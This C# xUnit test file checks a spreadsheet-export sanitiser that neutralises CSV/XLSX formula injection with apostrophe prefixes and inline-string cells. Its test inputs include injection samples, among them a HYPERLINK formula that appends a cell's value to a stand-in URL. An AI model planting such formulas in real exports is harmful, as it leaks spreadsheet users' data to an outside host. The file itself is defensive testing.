using DocumentFormat.OpenXml.Spreadsheet;
using EduRelief.Exports;
using Xunit;

namespace EduRelief.Tests.Exports;

public sealed class SpreadsheetTextTests
{
    [Theory]
    [InlineData("=1+1", "'=1+1")]
    [InlineData("+86 13800000000", "'+86 13800000000")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A2)", "'@SUM(A1:A2)")]
    [InlineData("\t=1+1", "'\t=1+1")]
    [InlineData("\r=1+1", "'\r=1+1")]
    public void ForCsv_StartsLikeAFormula_PrefixedWithAnApostrophe(string text, string expected) =>
        Assert.Equal(expected, SpreadsheetText.ForCsv(text));

    [Theory]
    [InlineData("")]
    [InlineData("张三")]
    [InlineData("阿依古丽·买买提")]
    [InlineData("城关镇第一小学")]
    [InlineData("a=b")]
    [InlineData(" =1")]
    [InlineData("'=1")]
    public void ForCsv_PlainText_Unchanged(string text) => Assert.Equal(text, SpreadsheetText.ForCsv(text));

    [Fact]
    public void CsvField_FormulaWithCommaAndQuotes_PrefixedThenQuoted() =>
        Assert.Equal("\"'=HYPERLINK(\"\"http://x/?\"\"&C2,\"\"点此\"\")\"", SpreadsheetText.CsvField("=HYPERLINK(\"http://x/?\"&C2,\"点此\")"));

    [Theory]
    [InlineData("张三", "张三")]
    [InlineData("李,四", "\"李,四\"")]
    [InlineData("=1", "'=1")]
    [InlineData("-1,5", "\"'-1,5\"")]
    [InlineData("\r\n", "\"'\r\n\"")]
    public void CsvField_Text_NeutralisedAndQuotedAsNeeded(string text, string expected) => Assert.Equal(expected, SpreadsheetText.CsvField(text));

    [Theory]
    [InlineData("=HYPERLINK(\"http://x/\",\"点此\")")]
    [InlineData("+1")]
    [InlineData("-1")]
    [InlineData("@A1")]
    [InlineData("\t=1")]
    [InlineData("张三")]
    [InlineData("")]
    public void XlsxCell_Text_InlineStringKeptAsWritten(string text)
    {
        var cell = SpreadsheetText.XlsxCell(text);
        Assert.Equal(CellValues.InlineString, cell.DataType?.Value);
        Assert.Null(cell.CellFormula);
        Assert.Equal(text, cell.InlineString!.InnerText);
    }

    [Fact]
    public void XlsxCell_ControlCharacter_Dropped() => Assert.Equal("张三", SpreadsheetText.XlsxCell("张\u0001三").InlineString!.InnerText);

    [Fact]
    public void XlsxCell_Numbers_NumericCells()
    {
        Assert.Equal(CellValues.Number, SpreadsheetText.XlsxCell(-3).DataType?.Value);
        Assert.Equal("-3", SpreadsheetText.XlsxCell(-3).CellValue!.Text);
        Assert.Equal(CellValues.Number, SpreadsheetText.XlsxCell(625m).DataType?.Value);
        Assert.Equal("625.00", SpreadsheetText.XlsxCell(625m).CellValue!.Text);
    }
}
